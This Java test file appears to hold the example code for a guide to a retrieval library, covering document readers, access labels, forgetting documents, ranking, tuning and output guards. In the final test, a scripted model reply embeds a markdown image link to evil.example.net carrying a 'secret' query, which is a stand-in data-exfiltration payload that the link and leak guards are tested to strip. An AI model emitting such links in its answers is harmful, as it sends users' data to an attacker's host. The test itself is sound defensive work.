// SPDX-License-Identifier: Apache-2.0
package dev.tokka.examples;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.tokka.Answer;
import dev.tokka.Attributes;
import dev.tokka.Caller;
import dev.tokka.DomainModel;
import dev.tokka.Passage;
import dev.tokka.Query;
import dev.tokka.Question;
import dev.tokka.Retriever;
import dev.tokka.governance.output.LeakGuard;
import dev.tokka.governance.output.SafeLinks;
import dev.tokka.prompting.profile.DomainProfile;
import dev.tokka.rag.ExtractiveModel;
import dev.tokka.rag.Retrieval;
import dev.tokka.rag.document.DocumentReader;
import dev.tokka.rag.document.DocumentReaders;
import dev.tokka.rag.document.SentenceWindowChunker;
import dev.tokka.rag.document.SourceDocument;
import dev.tokka.rag.index.Analysis;
import dev.tokka.rag.index.ForgetReport;
import dev.tokka.rag.index.IndexSettings;
import dev.tokka.rag.index.LuceneIndex;
import dev.tokka.rag.index.QueryVectors;
import dev.tokka.rag.index.VectorSettings;
import dev.tokka.rag.metadata.Filter;
import dev.tokka.rag.metadata.FolderLabels;
import dev.tokka.rag.metadata.Labeling;
import dev.tokka.rag.metadata.MetadataSchema;
import dev.tokka.rag.metadata.Value;
import dev.tokka.rag.onnx.OnnxEncoder;
import dev.tokka.rag.query.QueryWriters;
import dev.tokka.rag.ranking.Refined;
import dev.tokka.rag.ranking.Surroundings;
import dev.tokka.rag.text.Vocabulary;
import dev.tokka.rag.tuning.RagConfiguration;
import dev.tokka.rag.tuning.RagTuner;
import dev.tokka.rag.tuning.TuningQuestion;
import dev.tokka.rag.tuning.TuningReport;
import dev.tokka.rag.tuning.TuningSpace;
import dev.tokka.testkit.ScriptedModel;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The second half of the code of the guide to retrieval: formats of your own, rights, ranking, tuning, safe answers. */
class RetrievalAtWorkGuideTest {

    @TempDir
    private Path temp;

    private final ByteArrayOutputStream printed = new ByteArrayOutputStream();
    private final PrintStream out = new PrintStream(printed, true, UTF_8);
    private Path documents;
    private Path indexFolder;

    @BeforeEach
    void copyDocuments() throws IOException {
        documents = Files.createDirectories(temp.resolve("documents"));
        indexFolder = temp.resolve("index");
        for (String document : List.of("en/information-security.md", "en/payments.md", "ja/furikomi.html")) {
            Path copy = documents.resolve(document);
            Files.createDirectories(copy.getParent());
            Files.copy(Path.of("handbook").resolve(document), copy);
        }
    }

    @Test
    void formatsOfYourOwnAreRead() throws IOException {
        Files.writeString(documents.resolve("4711.ticket"), "The vault of Kyoto opens at 08:15.");
        // SHOW
        DocumentReader tickets =
                (id, content) -> SourceDocument.plainText(id, new String(content, StandardCharsets.UTF_8));
        IndexSettings settings = IndexSettings.DEFAULT
                .withReaders(DocumentReaders.create().with("ticket", tickets))
                .withChunker(SentenceWindowChunker.of(5, 3));
        // END

        try (LuceneIndex index = LuceneIndex.openLexical(indexFolder, settings)) {
            assertThat(index.ingest(documents).added()).contains("4711.ticket");
        }
    }

    @Test
    void onlyWhoMayFindsADocument() throws IOException {
        Path labelsFile = temp.resolve("labels.json");
        Files.writeString(labelsFile, """
                {"labels": [
                   {"files": "en/payments.md", "metadata": {"kind": "rule"}},
                   {"files": "en/**", "roles": ["security"], "metadata": {"kind": "rule"}}],
                 "otherwise": "nobody"}
                """);
        // SHOW
        MetadataSchema schema = MetadataSchema.of(Map.of("kind", Value.Type.TEXT, "valid_from", Value.Type.TIME));
        Labeling labeling = Labeling.NONE.withSchema(schema).withFiles(FolderLabels.read(labelsFile, schema));
        try (LuceneIndex index = LuceneIndex.openLexical(indexFolder, IndexSettings.DEFAULT.withLabeling(labeling))) {
            index.ingest(documents);
            Attributes guard = Attributes.NONE
                    .with(Caller.KEY, new Caller("u-17", Set.of("security")))
                    .with(Filter.KEY, Filter.equal("kind", "rule"));

            List<Passage> found = index.retrieve(new Query("laptop stolen on the train", 5, guard));
            List<Passage> byOthers = index.retrieve(Query.of("laptop stolen on the train", 5));

            out.println(found.get(0).source().document() + ", and for others " + byOthers.size() + " passages");
        }
        // END

        assertThat(printed.toString(UTF_8)).startsWith("en/information-security.md, and for others ");
    }

    @Test
    void aDocumentIsForgotten() {
        try (LuceneIndex index = LuceneIndex.openLexical(indexFolder, IndexSettings.DEFAULT)) {
            index.ingest(documents);
            // SHOW
            ForgetReport report = index.forget("en/payments.md");

            out.println(report.passages() + " passages removed, nothing left: " + report.isComplete());
            // END
            assertThat(index.documents()).doesNotContain("en/payments.md");
            assertThat(printed.toString(UTF_8)).contains("nothing left: true");
        }
    }

    @Test
    void piecesImproveTheRanking() {
        DomainModel cheap = ScriptedModel.replying("What must be done about a stolen laptop?");
        try (LuceneIndex index = LuceneIndex.openLexical(indexFolder, IndexSettings.DEFAULT)) {
            index.ingest(documents);
            // SHOW
            Vocabulary vocabulary = new Vocabulary(
                    List.of(new Vocabulary.Term("laptop", "", List.of("notebook", "portable computer"))));
            Retriever ranked = Refined.of(index)
                    .perSource(2)
                    .enlarged(index, Surroundings.neighbours(1), 20)
                    .withinCharacters(6_000);
            DomainModel model = new ExtractiveModel(index)
                    .with(Retrieval.from(ranked)
                            .weights(index)
                            .queries(QueryWriters.condensing(cheap).then(QueryWriters.expanding(vocabulary))));
            // END
            assertThat(ranked.retrieve(Query.of("stolen laptop", 5))).isNotEmpty();
            assertThat(model.answer("How quickly must a stolen notebook be reported?")
                            .trace()
                            .steps())
                    .isNotEmpty();
        }
    }

    @Test
    void questionsAreReadAsPassagesAndMoved() {
        // SHOW
        QueryVectors queries = QueryVectors.DEFAULT.withPassageShare(0.5).withFeedback(3, 0.2);
        IndexSettings settings = IndexSettings.DEFAULT.withVectors(VectorSettings.DEFAULT.withQueries(queries));
        // END
        try (OnnxEncoder encoder = OnnxEncoder.bgeSmallEn();
                LuceneIndex index = LuceneIndex.open(indexFolder, encoder, settings)) {
            index.ingest(documents);
            assertThat(index.retrieve(Query.of("A stolen laptop must be reported.", 3))
                            .get(0)
                            .source()
                            .document())
                    .isEqualTo("en/information-security.md");
        }
    }

    @Test
    void oneProfileIsToldToTheModelAndFeedsTheIndex() throws IOException {
        Path desk = Files.writeString(temp.resolve("desk.md"), """
                ---
                profile: Desk
                version: "1"
                role: You help the staff of a bank.
                glossary:
                  - {term: 業務端末, reading: ギョウムタンマツ, definition: A laptop for work., avoid: [端末]}
                ---
                """);
        Files.writeString(documents.resolve("tanmatsu.md"), "# 紛失\n\n業務端末をなくしたときは二時間以内に届け出ます。\n");
        DomainModel base = ScriptedModel.replying("業務端末をなくしたときは二時間以内に届け出ます。");
        // SHOW
        DomainProfile profile = DomainProfile.read(desk);
        Vocabulary terms = Vocabulary.ofProfile(desk);
        IndexSettings settings = IndexSettings.DEFAULT.withAnalysis(Analysis.DEFAULT.withVocabulary(terms));
        try (LuceneIndex index = LuceneIndex.openLexical(indexFolder, settings)) {
            index.ingest(documents);
            DomainModel expert = base.with(profile).with(Retrieval.from(index).queries(QueryWriters.expanding(terms)));

            out.println(expert.answer("端末をなくしたときは、いつまでに届け出ますか。"));
        }
        // END

        assertThat(terms.words()).containsExactly("業務端末", "端末");
        assertThat(printed.toString(UTF_8)).contains("二時間以内", "tanmatsu.md", "formsAdded");
    }

    @Test
    void settingsAreChosenByMeasurement() throws IOException {
        List<SourceDocument> sources = List.of(
                SourceDocument.markdown("vault.md", "# Vault\n\nThe vault opens at 07:45.\n"),
                SourceDocument.markdown("cards.md", "# Cards\n\nA lost card is blocked at once.\n"),
                SourceDocument.markdown("fees.md", "# Fees\n\nA transfer costs two euros.\n"),
                SourceDocument.markdown("rates.md", "# Rates\n\nA loan costs three per cent.\n"));
        List<TuningQuestion> questions = List.of(
                TuningQuestion.of("When does the vault open?", "vault.md"),
                TuningQuestion.of("What happens to a lost card?", "cards.md"),
                TuningQuestion.of("What does a transfer cost?", "fees.md"),
                TuningQuestion.of("What does a loan cost?", "rates.md"));
        Path scratch = Files.createDirectories(temp.resolve("scratch"));
        Path file = temp.resolve("rag.json");
        // SHOW
        TuningReport report = RagTuner.lexical(sources)
                .space(TuningSpace.DEFAULT.withSizes(500, 1_000))
                .folds(2)
                .seed(42)
                .tune(questions, scratch);

        out.println(report);
        report.recommended().write(file);
        // END

        assertThat(RagConfiguration.read(file)).isEqualTo(report.recommended());
        assertThat(report.improves()).isFalse();
        assertThat(printed.toString(UTF_8)).isNotBlank();
    }

    @Test
    void whatARetrievedTextSmugglesInDoesNotGetOut() {
        DomainModel base = ScriptedModel.replying(
                "The form is at [the portal](https://portal.example.com/form) ![x](https://evil.example.net/?q=secret).");
        // SHOW
        DomainModel safe = base.with(SafeLinks.only("portal.example.com")).with(LeakGuard.of("canary-7f3a"));
        // END

        Answer answer = safe.answer(Question.of("Where is the form?"));
        assertThat(answer.reply().orElseThrow().text())
                .contains("https://portal.example.com/form")
                .doesNotContain("](https://evil.example.net");
    }
}
